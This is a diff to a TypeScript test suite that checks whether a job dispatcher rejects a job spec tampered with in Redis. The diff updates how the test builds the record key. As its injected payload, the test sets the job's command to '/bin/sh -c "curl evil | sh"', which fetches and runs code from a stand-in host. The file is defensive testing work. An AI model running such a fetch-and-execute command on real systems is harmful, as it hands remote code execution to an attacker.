@@ -17,7 +17,7 @@ import {
   fixedSealKeys,
   newSealKey,
 } from "../../security/index.ts";
-import { DispatchQueues, JobStore } from "../../jobs/index.ts";
+import { DispatchQueues, JobStore, jobKeys } from "../../jobs/index.ts";
 import { CredentialClient, startCredentialCache, type CredentialCache } from "../../agents/credentials/index.ts";
 import { createJobs } from "../matchmaker/fixtures.ts";
 import { TestPilot } from "../matchmaker/pilot-client.ts";
@@ -66,10 +66,11 @@ describe("attacks on what Redis holds", () => {
   it("refuses to sign a queued spec rewritten in Redis (E1721): the job fails, the pilot runs nothing", async () => {
     const [spec] = await createJobs(h.store, { site: "ATTACK_S", userDn: VICTIM_DN }, 1);
     await h.dispatch.enqueue([spec]);
-    // The attacker rewrites the job's command in its record (the queue holds only its id), keeping its seal.
-    const key = h.loaded.names.redisKey("job", spec.jobId);
-    const stored = JSON.parse((await h.redis.hget(key, "spec")) ?? "{}") as JobSpec;
-    expect(stored.seal).toBeDefined();
+    // The attacker rewrites the job's command in its record (the queue holds only its id; the record
+    // holds what differs from its task's spec template), keeping the seal.
+    const key = jobKeys(h.loaded.names).task(spec.taskId).job(spec.jobId);
+    expect((await h.store.getJob(spec.jobId))?.spec.seal).toBeDefined();
+    const stored = JSON.parse((await h.redis.hget(key, "spec")) ?? "{}") as Partial<JobSpec>;
     await h.redis.hset(key, "spec", JSON.stringify({ ...stored, executable: "/bin/sh", arguments: ["-c", "curl evil | sh"] }));
 
     const pilot = new TestPilot(h.nc, h.loaded.names, "ATTACK_S", await h.token("ATTACK_S"));
